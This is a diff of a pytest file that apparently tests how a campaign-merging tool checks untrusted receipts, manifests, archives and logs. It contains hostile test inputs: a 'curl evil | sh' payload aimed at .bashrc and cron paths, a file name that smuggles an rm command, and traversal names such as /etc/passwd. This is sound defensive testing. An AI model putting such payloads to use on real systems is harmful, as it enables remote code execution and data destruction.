@@ -1,6 +1,6 @@
 # SPDX-FileCopyrightText: 2026 The GLIDAR developers
 # SPDX-License-Identifier: BSD-3-Clause
-"""Parts of a campaign that come from somebody else: their receipts, manifests and files are checked before use."""
+"""Parts of a campaign from an untrusted source: receipts, manifests and files are checked before use."""
 
 import hashlib
 import json
@@ -16,14 +16,14 @@ from glidar.campaign import files, names, npz_output, records, report, run
 
 @pytest.fixture(scope="module")
 def parts(tmp_path_factory):
-    """Two parts and the whole of a small campaign; tests change copies."""
+    """Two parts and the merged data of a small campaign; tests change copies."""
     from campaign_support import Campaign
 
     made = Campaign(tmp_path_factory.mktemp("parts"))
     made.write("campaign.yaml", (made.folder / "campaign.yaml").read_text().replace("trials: 40", "trials: 8")
                + "outputs: {npz: true, pcd: {every: 4}, kitti: true, tum: true, bop: true}\n")
     for i in (0, 1):
-        run.run(made.folder / "campaign.yaml", made.folder / f"p{i}", run.Part(i, 2), workers=1, quiet=True)
+        run.run(made.folder / "campaign.yaml", made.folder / f"p{i}", run.ShardSubset(i, 2), workers=1, quiet=True)
     run.merge([made.folder / "p0", made.folder / "p1"], made.folder / "whole")
     return made.folder
 
@@ -57,7 +57,7 @@ HOSTILE = ["../.bashrc", "/etc/cron.d/x", "npz/../../.bashrc", "campaign.json", 
 
 
 @pytest.mark.parametrize("name", HOSTILE)
-def test_a_receipt_cannot_name_a_file_that_its_shard_does_not_write(folder, name):
+def test_a_receipt_can_only_list_files_of_its_shard(folder, name):
     evil = b"curl evil | sh"
     (folder / ".bashrc").write_text("# my own")
     change(folder / "p1" / "receipts" / "000001.json", lambda r: r["files"].update(listing(evil, name)))
@@ -69,27 +69,27 @@ def test_a_receipt_cannot_name_a_file_that_its_shard_does_not_write(folder, name
 
 
 @pytest.mark.parametrize("name", ["../../x", "npz/../../secret", "/etc/passwd", "log/x.jsonl"])
-def test_a_manifest_cannot_name_files_that_no_campaign_writes(folder, name):
+def test_a_manifest_can_only_list_files_that_campaigns_write(folder, name):
     change(folder / "whole" / "manifest.json", lambda m: m["files"].update(listing(b"x", name)))
     for use in (run.check, report.page):
         with pytest.raises(Error, match="it lists the file"):
             use(folder / "whole")
 
 
-def test_the_receipt_of_what_is_written_once_lists_models_only(folder):
+def test_the_receipt_of_models_can_only_list_models(folder):
     change(folder / "p0" / "receipts" / "once-bop.json", lambda r: r["files"].update(listing(b"x", "campaign.json")))
     with pytest.raises(Error, match="bop/models"):
         merge(folder)
 
 
 @pytest.mark.parametrize("name", ["evil.json", "once-.json", "00001.json", "000001x.json"])
-def test_a_file_among_the_receipts_has_the_name_of_one(folder, name):
+def test_files_with_other_names_among_the_receipts_are_rejected(folder, name):
     shutil.copy(folder / "p1" / "receipts" / "000001.json", folder / "p1" / "receipts" / name)
-    with pytest.raises(Error, match="a file among the receipts that is none"):
+    with pytest.raises(Error, match="it is not a receipt"):
         merge(folder)
 
 
-def test_a_receipt_of_a_shard_that_the_campaign_does_not_have_is_refused(folder):
+def test_a_receipt_with_a_shard_out_of_range_is_rejected(folder):
     shutil.copy(folder / "p1" / "receipts" / "000001.json", folder / "p1" / "receipts" / "000002.json")
     with pytest.raises(Error, match="a receipt of shard 2; allowed: shards from 0 to 1"):
         merge(folder)
@@ -111,7 +111,7 @@ def test_links_out_of_a_campaign_are_not_followed(folder, root):
     assert sorted(outside.iterdir()) == before
 
 
-def test_pipes_and_devices_in_a_part_are_refused_and_do_not_block(folder):
+def test_pipes_and_devices_in_a_part_are_rejected_without_blocking(folder):
     victim = next((folder / "p1" / "npz").iterdir())
     victim.unlink()
     os.mkfifo(victim)
@@ -120,13 +120,13 @@ def test_pipes_and_devices_in_a_part_are_refused_and_do_not_block(folder):
     for name in ("receipts/000001.json", "campaign.json"):
         (folder / "p1" / name).unlink()
         os.mkfifo(folder / "p1" / name)
-    with pytest.raises(Error, match="it holds no campaign|a pipe or a device"):
+    with pytest.raises(Error, match="it contains no campaign|a pipe or a device"):
         merge(folder)
     with pytest.raises(Error, match="a pipe or a device"):
         files.hash_file("/dev/zero")
 
 
-def test_only_logs_are_taken_over_as_logs(folder):
+def test_merge_copies_only_log_files_as_logs(folder):
     (folder / "p1" / "log" / ".x;rm.jsonl").write_text("{}")
     merge(folder)
     taken = {path.name for path in (folder / "new" / "log").iterdir()}
@@ -149,7 +149,7 @@ MALFORMED = {
 
 @pytest.mark.parametrize("name, keys, value",
                          [(name, *case) for name, cases in MALFORMED.items() for case in cases])
-def test_a_malformed_record_is_an_error_that_names_its_place(folder, name, keys, value):
+def test_a_malformed_record_raises_an_error_with_its_location(folder, name, keys, value):
     def edit(record):
         for key in keys[:-1]:
             record = record[key]
@@ -162,11 +162,11 @@ def test_a_malformed_record_is_an_error_that_names_its_place(folder, name, keys,
 
 
 @pytest.mark.parametrize("text, words", [
-    ("[" * 100_000, "nested too deeply|no JSON"), ("[" * 500 + "]" * 500, "nested too deeply"),
-    ('{"a": NaN}', "NaN"), ("\ufffe", "no JSON"), ('{"x": ' + "9" * 5000 + "}", "no JSON"), ("[1, 2]", "it is \\[1, 2\\]"),
+    ("[" * 100_000, "nested too deeply|not JSON"), ("[" * 500 + "]" * 500, "nested too deeply"),
+    ('{"a": NaN}', "NaN"), ("\ufffe", "not JSON"), ('{"x": ' + "9" * 5000 + "}", "not JSON"), ("[1, 2]", "it is \\[1, 2\\]"),
     ("{}", "the key 'hash' is missing"), ('"' + "y" * 10_000 + '"', "yyy")])
 @pytest.mark.parametrize("name", ["campaign.json", "receipts/000001.json", "manifest.json"])
-def test_what_is_no_record_is_an_error_that_quotes_little(folder, name, text, words):
+def test_invalid_json_raises_an_error_with_a_short_excerpt(folder, name, text, words):
     (folder / "whole" / name).write_text(text)
     with pytest.raises(Error, match=words if name == "campaign.json" else None) as raised:
         run.check(folder / "whole")
@@ -174,13 +174,13 @@ def test_what_is_no_record_is_an_error_that_quotes_little(folder, name, text, wo
     assert len(raised.value.found) < 300 and "\n" not in str(raised.value)
 
 
-def test_records_that_are_not_utf8_are_errors(folder):
+def test_records_that_are_not_utf8_raise_an_error(folder):
     (folder / "whole" / "manifest.json").write_bytes(b'{"campaign": "\xff\xfe\xff"}')
-    with pytest.raises(Error, match="no JSON"):
+    with pytest.raises(Error, match="not JSON"):
         run.check(folder / "whole")
 
 
-def test_a_campaign_that_would_have_too_many_shards_is_refused_at_once(parts, tmp_path):
+def test_a_campaign_with_too_many_shards_is_rejected_immediately(parts, tmp_path):
     shutil.copytree(parts, tmp_path / "c")
     path = tmp_path / "c" / "campaign.yaml"
     text = path.read_text().replace("trials: 8", "trials: 4294967296").replace("shard_trials: 4", "shard_trials: 1")
@@ -189,7 +189,7 @@ def test_a_campaign_that_would_have_too_many_shards_is_refused_at_once(parts, tm
         run.run(path, tmp_path / "out", quiet=True)
 
 
-def test_a_merge_counts_missing_shards_by_the_receipts_that_are_there(folder):
+def test_a_merge_counts_missing_shards_from_existing_receipts(folder):
     def edit(record):
         record.update(trials=1 << 32, shard_trials=1024, shards=1 << 22)
 
@@ -200,13 +200,13 @@ def test_a_merge_counts_missing_shards_by_the_receipts_that_are_there(folder):
 
 
 @pytest.mark.parametrize("content", [b"", b"PAR1", b"\xff" * 100])
-def test_an_index_that_is_none_is_an_error(folder, content):
+def test_an_invalid_index_raises_an_error(folder, content):
     (folder / "whole" / "index.parquet").write_bytes(content)
-    with pytest.raises(Error, match="it is no index of trials"):
+    with pytest.raises(Error, match="it is not an index of trials"):
         report.page(folder / "whole")
 
 
-def test_an_index_with_other_columns_is_an_error(folder):
+def test_an_index_with_wrong_columns_raises_an_error(folder):
     import pyarrow as pa
     import pyarrow.parquet as pq
 
@@ -218,7 +218,7 @@ def test_an_index_with_other_columns_is_an_error(folder):
             report.page(folder / "whole")
 
 
-def test_logs_of_any_content_leave_the_report_as_it_is(folder):
+def test_malformed_logs_do_not_affect_the_report(folder):
     (folder / "whole" / "log" / "x.jsonl").write_bytes(
         b'\xff\n[1]\n{"shard": 1}\n{"time_s": "x"}\n{"time_s": NaN}\n{"shard": 1, "time_s": 1, "seconds": [], "trials": 1}\n'
         + b"[" * 100_000)
@@ -226,7 +226,7 @@ def test_logs_of_any_content_leave_the_report_as_it_is(folder):
 
 
 @pytest.mark.parametrize("member", ["../x.npy", "/etc/x.npy", "range", "a" * 100 + ".npy", "RANGE.npy", "x\n.npy"])
-def test_an_archive_has_members_with_names_of_columns(folder, member):
+def test_archives_with_invalid_member_names_are_rejected(folder, member):
     import zipfile
 
     path = folder / "x.npz"
@@ -236,7 +236,7 @@ def test_an_archive_has_members_with_names_of_columns(folder, member):
         pass
 
 
-def test_an_archive_that_is_damaged_is_an_error(folder):
+def test_a_corrupt_archive_raises_an_error(folder):
     victim = next((folder / "whole" / "npz").iterdir())
     data = bytearray(victim.read_bytes())
     data[200:] = b"\xff" * (len(data) - 200)
@@ -246,7 +246,7 @@ def test_an_archive_that_is_damaged_is_an_error(folder):
             report.page(folder / "whole")
 
 
-def test_records_of_a_run_pass_their_own_checks(folder):
+def test_records_of_a_run_are_valid(folder):
     described = records.read_campaign(folder / "whole" / "campaign.json")
     assert [records.read_receipt(path, described)["trials"] for path in records.receipts_in(folder / "whole")] == [4, 4, 0]
     assert records.read_manifest(folder / "whole" / "manifest.json")["trials"] == 8
@@ -255,13 +255,13 @@ def test_records_of_a_run_pass_their_own_checks(folder):
 
 
 @pytest.mark.parametrize("value", [10**30, None, 3.5, "a\0b", "\ud800", "x" * 10_000, []])
-def test_odd_paths_and_counts_are_errors(folder, value):
+def test_invalid_paths_and_counts_raise_an_error(folder, value):
     for use in (lambda: run.run(value, folder / "out", quiet=True), lambda: run.check(value), lambda: report.page(value),
                 lambda: run.merge([value], folder / "out"), lambda: run.merge([folder / "p0"], value),
-                lambda: run.Part(value, 2), lambda: run.Part(0, value),
+                lambda: run.ShardSubset(value, 2), lambda: run.ShardSubset(0, value),
                 lambda: run.run(folder / "none.yaml", folder / "out", workers=value, quiet=True)):
         with pytest.raises(Error):
             use()
     for index, count in ((0, 0), (2, 2), (-1, 2)):
         with pytest.raises(Error):
-            run.Part(index, count)
+            run.ShardSubset(index, count)
